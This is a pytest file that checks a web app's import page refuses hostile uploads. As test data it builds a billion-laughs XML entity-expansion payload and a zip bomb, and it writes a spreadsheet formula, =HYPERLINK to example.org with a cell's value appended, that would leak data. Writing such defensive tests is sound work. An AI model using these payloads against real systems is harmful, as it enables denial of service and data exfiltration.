"""Hostile files through every import kind, uploaded as a user would (the import page): a renamed
type, a zip bomb, XML entity expansion, an oversize file, a bad row in the middle, formula cells.
Each gives a clear error in the user's language, writes nothing, leaves no upload behind, and the
server answers the next request."""

from __future__ import annotations

import csv
import io
import re
import stat
import zipfile
from collections.abc import Callable
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from gridwork.areas.models import AreaBoundary
from gridwork.conftest import GRID_A1, GRID_A2, District
from gridwork.core.models import RecordHistory
from gridwork.core.system import SYSTEM
from gridwork.registry.models import (
    Building,
    FacilityObject,
    House,
    Household,
    Organization,
    Person,
    PersonTag,
)
from gridwork.transfer import services
from gridwork.transfer.columns import KINDS, get_kind, row_for
from gridwork.transfer.models import ImportJob
from gridwork.transfer.tests.conftest import report_rows
from gridwork.transfer.tests.helpers import person_row, unique_id

HH = f"H{GRID_A1}"
KIND_NAMES = list(KINDS)
REGISTER = (Person, Household, House, Building, Organization, FacilityObject, PersonTag, AreaBoundary)
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\x00" * 64
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 64 + b"This program cannot be run in DOS mode."


def _register() -> tuple[int, ...]:
    return (*(model.objects.count() for model in REGISTER), RecordHistory.objects.count())


def _good_rows(district: District, kind: str) -> list[list[Any]]:
    """Two new records of the kind, valid in grid A1, in the template's column order."""
    spec = get_kind(kind)
    keys = [column.key for column in spec.columns]
    if kind == "persons":
        return [[person_row(n, HH).get(key, "") for key in keys] for n in (1, 2)]
    rows = []
    for n in (1, 2):
        if kind == "tags":
            person = district.people[GRID_A1]
            values = {"id_number": person.id_number, "group_code": ("empty_nester", "veteran")[n - 1]}
            values["since"] = "2024-01-01"
        else:
            record = {
                "buildings": district.buildings,
                "houses": district.houses,
                "organizations": district.orgs,
                "objects": district.objects,
            }[kind][GRID_A1]
            values = dict(zip(keys, row_for(spec, record), strict=True))
            new = {
                "buildings": {"code": f"BN{n}", "number": f"新{n}号楼"},
                "houses": {"room": f"90{n}"},
                "organizations": {"credit_code": "", "name": f"新单位{n}"},
                "objects": {"code": f"ON{n}"},
            }[kind]
            values.update(new)
        rows.append([values.get(key, "") for key in keys])
    return rows


# A broken value for one column of each kind: the row in the middle that fails.
BAD_CELL = {
    "persons": ("phone", "not a phone"),
    "buildings": ("lon", "east"),
    "houses": ("floor", "ground"),
    "organizations": ("employees", "many"),
    "objects": ("lat", "north"),
    "tags": ("since", "never"),
}
# A text column of each kind where a formula is put.
TEXT_COLUMN = {
    "persons": "name",
    "buildings": "address",
    "houses": "room",
    "organizations": "name",
    "objects": "subclass",
    "tags": "details",
}


def _header(kind: str, key: str) -> str:
    return next(column for column in get_kind(kind).columns if column.key == key).header("en")


def _csv(kind: str, rows: list[list[Any]]) -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(get_kind(kind).headers("en"))
    writer.writerows(rows)
    return buffer.getvalue().encode()


def _xlsx(kind: str, rows: list[list[Any]]) -> bytes:
    from openpyxl import Workbook

    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet()
    sheet.append(get_kind(kind).headers("en"))
    for row in rows:
        sheet.append(row)  # openpyxl writes a string starting with "=" as a formula cell
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _rewrite(
    xlsx: bytes, change: Callable[[zipfile.ZipInfo, bytes], bytes], extra: dict[str, bytes]
) -> bytes:
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(xlsx)) as source,
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as out,
    ):
        for item in source.infolist():
            out.writestr(item.filename, change(item, source.read(item)))
        for name, body in extra.items():
            out.writestr(name, body)
    return buffer.getvalue()


LAUGHS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
    '<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">'
    '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
)


def _billion_laughs(xlsx: bytes) -> bytes:
    def change(item: zipfile.ZipInfo, body: bytes) -> bytes:
        if not item.filename.startswith("xl/worksheets/"):
            return body
        text = body.decode()
        text = text[text.index("<worksheet") :] if text.startswith("<?xml") else text
        return (
            LAUGHS
            + text.replace(
                "</sheetData>",
                '<row r="9"><c r="A9" t="inlineStr"><is><t>&lol3;</t></is></c></row></sheetData>',
            )
        ).encode()

    return _rewrite(xlsx, change, {})


def _zip_bomb(xlsx: bytes) -> bytes:
    # 4 MB of zeros in one part pack to a few KB: far past any ratio a real sheet has.
    return _rewrite(xlsx, lambda item, body: body, {"xl/media/image1.bin": b"\0" * (4 << 20)})


def _upload(district: District, kind: str, content: bytes, name: str, language: str = "en") -> Any:
    client = district.client("worker_a1")
    response = client.post(
        "/imports/",
        {"kind": kind, "mode": "all_or_nothing", "file": SimpleUploadedFile(name, content)},
        headers={"accept-language": language},
    )
    # The server still answers, at once and for the same user.
    assert client.get("/imports/").status_code == 200
    return response


def _refused(district: District, kind: str, content: bytes, name: str, language: str = "en") -> str:
    """Upload a hostile file; the job's message, once checked that nothing was written or kept."""
    before = _register()
    response = _upload(district, kind, content, name, language)
    assert response.status_code == 302, response.content.decode()[:500]
    job = ImportJob.objects.get(pk=int(re.search(r"/imports/(\d+)/", response["Location"]).group(1)))
    assert job.status == "failed" and job.message and not job.written
    assert _register() == before
    assert report_rows(job)[-1][3] == job.message  # the report ends with the same
    assert not services.upload_path(job).exists()
    page = district.client("worker_a1").get(response["Location"])
    assert page.status_code == 200
    return job.message


@pytest.mark.parametrize("kind", KIND_NAMES)
def test_program_renamed_xlsx(district, kind):
    assert "not a zip package" in _refused(district, kind, EXE, "list.xlsx")


@pytest.mark.parametrize("kind", KIND_NAMES)
def test_png_named_csv(district, kind):
    assert "not a CSV text file: its content is a PNG image" in _refused(district, kind, PNG, "list.csv")


@pytest.mark.parametrize("kind", KIND_NAMES)
def test_program_named_csv(district, kind):
    assert "a Windows program" in _refused(district, kind, EXE, "list.csv")


@pytest.mark.parametrize("kind", KIND_NAMES)
def test_zip_bomb(district, kind):
    bomb = _zip_bomb(_xlsx(kind, _good_rows(district, kind)))
    assert len(bomb) < 64 * 1024
    assert "zip bomb" in _refused(district, kind, bomb, "list.xlsx")


@pytest.mark.parametrize("kind", KIND_NAMES)
def test_xml_entity_expansion(district, kind):
    laughs = _billion_laughs(_xlsx(kind, _good_rows(district, kind)))
    assert "XML entities" in _refused(district, kind, laughs, "list.xlsx")


@pytest.mark.parametrize("kind", KIND_NAMES)
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_formula_cells(district, kind, fmt):
    rows = _good_rows(district, kind)
    position = [c.key for c in get_kind(kind).columns].index(TEXT_COLUMN[kind])
    rows[1][position] = '=HYPERLINK("http://example.org/?"&A1,"x")'
    content = _csv(kind, rows) if fmt == "csv" else _xlsx(kind, rows)
    message = _refused(district, kind, content, f"list.{fmt}")
    assert f"Row 3, column {position + 1} holds a formula" in message and "values only" in message


@pytest.mark.parametrize("kind", KIND_NAMES)
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_bad_row_in_the_middle(district, kind, fmt):
    good = _good_rows(district, kind)
    column, value = BAD_CELL[kind]
    bad = list(good[0])
    keys = [c.key for c in get_kind(kind).columns]
    bad[keys.index(column)] = value
    if kind == "persons":
        bad[keys.index("id_number")] = unique_id(3)  # a person of its own, not a repeat of row 2
    rows = [good[0], bad, good[1]]
    content = _csv(kind, rows) if fmt == "csv" else _xlsx(kind, rows)
    before = _register()
    response = _upload(district, kind, content, f"list.{fmt}")
    job = ImportJob.objects.get(pk=int(re.search(r"/imports/(\d+)/", response["Location"]).group(1)))
    assert job.status == "done" and not job.written and job.errors_count >= 1
    assert _register() == before
    assert [(row[0], row[1]) for row in report_rows(job)] == [("3", _header(kind, column))]
    assert not services.upload_path(job).exists()
    # The same rows without the bad one import: the refusal was the bad row's doing.
    fixed = _csv(kind, [good[0], good[1]]) if fmt == "csv" else _xlsx(kind, [good[0], good[1]])
    response = _upload(district, kind, fixed, f"list.{fmt}")
    job = ImportJob.objects.order_by("-pk").first()
    assert job.written and job.created == 2, report_rows(job)


@pytest.mark.parametrize("kind", [*KIND_NAMES, "geojson"])
def test_oversize_file(district, settings, kind):
    settings.IMPORT_MAX_BYTES = 2048
    content = b'{"type": "FeatureCollection", "features": [' + b" " * 4096 + b"]}"
    if kind != "geojson":
        content = _csv(kind, _good_rows(district, kind) * 40)
    assert len(content) > 2048
    before = _register()
    response = _upload(district, kind, content, "big.geojson" if kind == "geojson" else "big.csv")
    assert response.status_code == 422 and "larger than the limit" in response.content.decode()
    assert _register() == before
    assert not ImportJob.objects.exists()
    assert [p for p in services.imports_dir().iterdir()] == []


def test_messages_come_in_the_users_language(district):
    message = _refused(district, "persons", PNG, "list.csv", language="zh-hans")
    assert "PNG" in message and re.search(r"[\u4e00-\u9fff]", message) and "CSV" in message
    rows = _good_rows(district, "persons")
    rows[0][6] = "=1+1"
    message = _refused(district, "persons", _csv("persons", rows), "list.csv", language="zh-hans")
    assert "公式" in message


# --- GeoJSON -------------------------------------------------------------------------------------


def test_geojson_png_renamed(district):
    assert "not a GeoJSON text file: its content is a PNG image" in _refused(
        district, "geojson", PNG, "grids.geojson"
    )


def test_geojson_nested_too_deeply(district):
    content = b"[" * 200_000 + b"]" * 200_000
    assert "nested too deeply" in _refused(district, "geojson", content, "grids.geojson")


def test_geojson_bad_feature_in_the_middle(district):
    import json

    square = {
        "type": "Polygon",
        "coordinates": [[[116.6, 39.9], [116.61, 39.9], [116.61, 39.91], [116.6, 39.9]]],
    }
    features = [
        {"type": "Feature", "properties": {"code": GRID_A1}, "geometry": square},
        {
            "type": "Feature",
            "properties": {"code": GRID_A2},
            "geometry": {"type": "Polygon", "coordinates": "x"},
        },
        {"type": "Feature", "properties": {"code": GRID_A2}, "geometry": square},
    ]
    before = _register()
    content = json.dumps({"type": "FeatureCollection", "features": features}).encode()
    # Boundaries need areas.change, which no page user of the fixture holds: the system imports.
    job = services.start_import(
        SYSTEM, "geojson", io.BytesIO(content), "grids.geojson", "all_or_nothing", "en"
    )
    job.refresh_from_db()
    assert district.client("worker_a1").get("/imports/").status_code == 200
    assert job.status == "done" and not job.written and job.errors_count >= 1
    assert _register() == before
    assert {row[0] for row in report_rows(job)} == {"2"}, report_rows(job)


# --- what is kept on disk -----------------------------------------------------------------------


def test_uploads_are_private_while_they_wait_and_removed_after_the_job(district, settings):
    job = services.start_import(
        district.users["worker_a1"],
        "persons",
        io.BytesIO(_csv("persons", _good_rows(district, "persons"))),
        "p.csv",
        "all_or_nothing",
        "en",
        enqueue=False,
    )
    path = services.upload_path(job)
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert stat.S_IMODE(services.imports_dir().stat().st_mode) == 0o700
    services.run_import(job.pk)
    assert not path.exists()
    for report in services.imports_dir().iterdir():
        assert stat.S_IMODE(report.stat().st_mode) == 0o600, report.name


def test_an_open_imports_folder_is_closed(district, settings):
    folder = services.imports_dir()
    folder.chmod(0o755)
    assert stat.S_IMODE(services.imports_dir().stat().st_mode) == 0o700


def test_upload_of_a_failed_job_is_removed_too(district, monkeypatch):
    job = services.start_import(
        district.users["worker_a1"], "buildings", io.BytesIO(_csv("buildings", [])), "b.csv", enqueue=False
    )

    def broken(*args: Any) -> None:
        raise RuntimeError("disk gone")

    monkeypatch.setattr(services, "_run", broken)
    with pytest.raises(RuntimeError):
        services.run_import(job.pk)
    assert ImportJob.objects.get(pk=job.pk).status == "failed"
    assert not services.upload_path(job).exists()


def test_sweep_removes_old_files_but_not_a_waiting_upload(district, settings):
    import datetime as dt
    import os

    from django.utils import timezone

    settings.IMPORT_FILES_KEEP_HOURS = 24
    waiting = services.start_import(
        district.users["worker_a1"], "persons", io.BytesIO(_csv("persons", [])), "p.csv", enqueue=False
    )
    folder = services.imports_dir()
    old_report = folder / "0123456789abcdef0123456789abcdef.errors.csv"
    old_upload = folder / "fedcba9876543210fedcba9876543210.csv"
    new_report = folder / "00112233445566778899aabbccddeeff.errors.csv"
    for path in (old_report, old_upload, new_report):
        path.write_text("x")
    day_and_more = (timezone.now() - dt.timedelta(hours=25)).timestamp()
    for path in (old_report, old_upload, services.upload_path(waiting)):
        os.utime(path, (day_and_more, day_and_more))
    assert services.sweep_import_files() == 2
    assert sorted(p.name for p in folder.iterdir()) == sorted(
        [new_report.name, services.upload_path(waiting).name]
    )


def test_sweep_runs_with_the_periodic_check(district, settings):
    import datetime as dt
    import os

    from django.utils import timezone

    from gridwork.notify.tasks import run_overdue_check

    old = services.imports_dir() / "0123456789abcdef0123456789abcdef.errors.xlsx"
    old.write_text("x")
    then = (timezone.now() - dt.timedelta(hours=settings.IMPORT_FILES_KEEP_HOURS + 1)).timestamp()
    os.utime(old, (then, then))
    run_overdue_check()
    assert not old.exists()
